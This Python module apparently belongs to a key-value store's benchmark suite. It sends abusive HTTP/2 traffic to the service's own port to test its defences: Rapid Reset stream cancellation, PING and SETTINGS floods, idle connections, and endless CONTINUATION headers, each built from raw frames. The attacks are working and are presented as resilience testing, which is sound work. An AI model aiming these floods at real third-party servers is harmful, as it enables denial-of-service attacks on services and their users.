"""Abusive HTTP/2 connections, frame by frame, against the service's plaintext port.

Each opens one TCP connection, sends the client preface and SETTINGS, then its abuse:
- `RapidReset`: HEADERS + DATA of a Lookup and an immediate RST_STREAM, stream after stream;
- `PingFlood` / `SettingsFlood`: PING or SETTINGS frames as fast as the socket takes them (a PING
  flooder may refuse to read the acknowledgements, so that they pile up on the server);
- `IdleConnections`: connections that send the preface and then nothing;
- `EndlessHeaders`: a HEADERS frame without END_HEADERS followed by CONTINUATION frames for ever.

Frames are built with hyperframe/hpack (no HTTP/2 state machine on our side: the point is to
send what a well-behaved client would not). A reader thread drains what the server sends (unless
told not to) and notes a GOAWAY or the connection closing, which is how the server defends itself.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from kvstore.bench.abusers import Abuser

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


GOAWAY_TYPE = GoAwayFrame.type  # the frame type byte, read without parsing every frame

def _host_port(address: str) -> tuple[str, int]:
    host, _, port = address.rpartition(":")
    return host.strip("[]"), int(port)


class _Connection:
    """One raw HTTP/2 connection: send frames, and (optionally) read and parse what comes back."""

    def __init__(self, address: str, read: bool = True) -> None:
        self.sock = socket.create_connection(_host_port(address), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed_by_server = threading.Event()
        self.goaway: str = ""
        # The server reset the connection: a close with the flood's bytes still unread in its
        # socket sends a TCP RST, and the kernel then drops what this side had not yet read,
        # a GOAWAY included.
        self.reset_by_server = False
        self.bytes_sent = 0
        self.frames_sent = 0
        self._read = read
        self._reader: threading.Thread | None = None
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        if read:
            self._reader = threading.Thread(target=self._read_loop, daemon=True, name="h2-abuser-reader")
            self._reader.start()

    def _read_loop(self) -> None:
        buf = b""
        self.sock.settimeout(None)
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buf += data
                # Frames are stepped over by offset, the rest kept once per read: cutting the buffer
                # after every frame copied it thousands of times a read (a PING flood's 17-byte
                # acks), so a busy machine's reader fell behind, the server's acks filled the
                # socket, it stopped reading the flood, and the flood's send blocked for good.
                at = 0
                while len(buf) - at >= 9:
                    length = int.from_bytes(buf[at : at + 3], "big")
                    if len(buf) - at < 9 + length:
                        break
                    if buf[at + 3] == GOAWAY_TYPE:
                        frame, _ = Frame.parse_frame_header(memoryview(buf[at : at + 9]))
                        assert isinstance(frame, GoAwayFrame)
                        frame.parse_body(memoryview(buf[at + 9 : at + 9 + length]))
                        why = frame.additional_data.decode(errors="replace")
                        self.goaway = f"GOAWAY error {frame.error_code}: {why}"
                    at += 9 + length
                buf = buf[at:]
        except ConnectionResetError:
            self.reset_by_server = True
        except OSError:
            pass
        self.closed_by_server.set()

    def send(self, payload: bytes, frames: int = 1) -> bool:
        """Send bytes; False once the server has closed the connection."""
        if self.closed_by_server.is_set():
            return False
        try:
            self.sock.sendall(payload)
        except OSError:
            self.closed_by_server.set()
            return False
        self.bytes_sent += len(payload)
        self.frames_sent += frames
        return True

    def wait_closed(self, timeout_seconds: float) -> bool:
        """True if the server closed the connection (or sent GOAWAY) within the timeout."""
        if not self._read:
            # Not reading: find out by peeking once the flood is over.
            self.sock.setblocking(True)
            self.sock.settimeout(timeout_seconds)
            end = time.monotonic() + timeout_seconds
            try:
                while time.monotonic() < end:
                    data = self.sock.recv(1 << 16)
                    if not data:
                        self.closed_by_server.set()
                        break
            except OSError:
                pass
            return self.closed_by_server.is_set()
        closed = self.closed_by_server.wait(timeout_seconds) or bool(self.goaway)
        if closed and self._reader is not None:
            # A failed send may have said so first: what the reader has still to read (a GOAWAY)
            # is known once it has read to the end.
            self._reader.join(timeout_seconds)
        return closed

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


class _FloodAbuser(Abuser):
    """Runs `_flood` on its own connection in a thread until done, stopped, or cut off."""

    def __init__(self, address: str, read: bool = True) -> None:
        self._address = address
        self._read = read
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self.conn: _Connection | None = None
        self.finished = threading.Event()

    def start(self) -> None:
        self.conn = _Connection(self._address, read=self._read)
        self._thread = threading.Thread(target=self._run, daemon=True, name=f"h2-{self.name}")
        self._thread.start()

    def _run(self) -> None:
        assert self.conn is not None
        try:
            self._flood(self.conn)
        finally:
            self.finished.set()

    def _flood(self, conn: _Connection) -> None:
        raise NotImplementedError

    def wait_finished(self, timeout_seconds: float) -> bool:
        return self.finished.wait(timeout_seconds)

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=10)
        if self.conn is not None:
            self.conn.close()

    def outcome(self) -> dict[str, object]:
        c = self.conn
        if c is None:
            return {}
        return {"frames_sent": c.frames_sent, "closed_by_server": c.closed_by_server.is_set(),
                "goaway": c.goaway}


def _grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class RapidReset(_FloodAbuser):
    """Opens `streams` streams, each HEADERS + DATA (a Lookup) then RST_STREAM(CANCEL) at once."""

    name = "rapid_reset"

    def __init__(self, address: str, token: str | None, request: bytes, streams: int = 50_000,
                 batch: int = 100) -> None:
        super().__init__(address)
        self._token = token
        self._request = _grpc_message(request)
        self._streams = streams
        self._batch = batch

    def _flood(self, conn: _Connection) -> None:
        enc = Encoder()
        host, port = _host_port(self._address)
        headers = [(":method", "POST"), (":scheme", "http"), (":path", "/kvstore.v1.KVCache/Lookup"),
                   (":authority", f"{host}:{port}"), ("content-type", "application/grpc"), ("te", "trailers")]
        if self._token:
            headers.append(("authorization", f"Bearer {self._token}"))
        sid = 1
        while sid < 2 * self._streams and not self._stop.is_set():
            out = bytearray()
            for _ in range(self._batch):
                h = HeadersFrame(sid, enc.encode(headers))
                h.flags.add("END_HEADERS")
                d = DataFrame(sid, self._request)
                d.flags.add("END_STREAM")
                out += h.serialize() + d.serialize() + RstStreamFrame(sid, CANCEL).serialize()
                sid += 2
            if not conn.send(bytes(out), frames=3 * self._batch):
                return


class PingFlood(_FloodAbuser):
    name = "ping_flood"

    def __init__(self, address: str, frames: int = 100_000, read: bool = True, batch: int = 500) -> None:
        super().__init__(address, read=read)
        self._frames = frames
        self._batch = batch

    def _flood(self, conn: _Connection) -> None:
        sent = 0
        while sent < self._frames and not self._stop.is_set():
            out = b"".join(PingFrame(0, opaque_data=struct.pack(">Q", sent + i)).serialize()
                           for i in range(self._batch))
            if not conn.send(out, frames=self._batch):
                return
            sent += self._batch


class SettingsFlood(_FloodAbuser):
    name = "settings_flood"

    def __init__(self, address: str, frames: int = 100_000, batch: int = 500) -> None:
        super().__init__(address)
        self._frames = frames
        self._batch = batch

    def _flood(self, conn: _Connection) -> None:
        sent = 0
        frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
        while sent < self._frames and not self._stop.is_set():
            if not conn.send(frame * self._batch, frames=self._batch):
                return
            sent += self._batch


class EndlessHeaders(_FloodAbuser):
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames of
    junk header bytes until the server cuts the connection (or `max_bytes`)."""

    name = "endless_headers"

    def __init__(self, address: str, max_bytes: int = 64 << 20) -> None:
        super().__init__(address)
        self._max = max_bytes

    def _flood(self, conn: _Connection) -> None:
        enc = Encoder()
        conn.send(HeadersFrame(1, enc.encode([(":method", "POST"), (":path", "/kvstore.v1.KVCache/Lookup")]))
                  .serialize())
        block = enc.encode([("x-junk", "j" * 4000)])
        while conn.bytes_sent < self._max and not self._stop.is_set():
            if not conn.send(ContinuationFrame(1, block).serialize()):
                return


class IdleConnections(Abuser):
    """`connections` TCP connections that send the HTTP/2 preface and SETTINGS, then nothing."""

    name = "idle_connections"

    def __init__(self, address: str, connections: int = 50) -> None:
        self._address = address
        self._n = connections
        self.conns: list[_Connection] = []

    def start(self) -> None:
        self.conns = [_Connection(self._address) for _ in range(self._n)]

    def closed(self) -> int:
        return sum(1 for c in self.conns if c.closed_by_server.is_set() or c.goaway)

    def stop(self) -> None:
        for c in self.conns:
            c.close()

    def outcome(self) -> dict[str, object]:
        return {"connections": self._n, "closed_by_server": self.closed()}
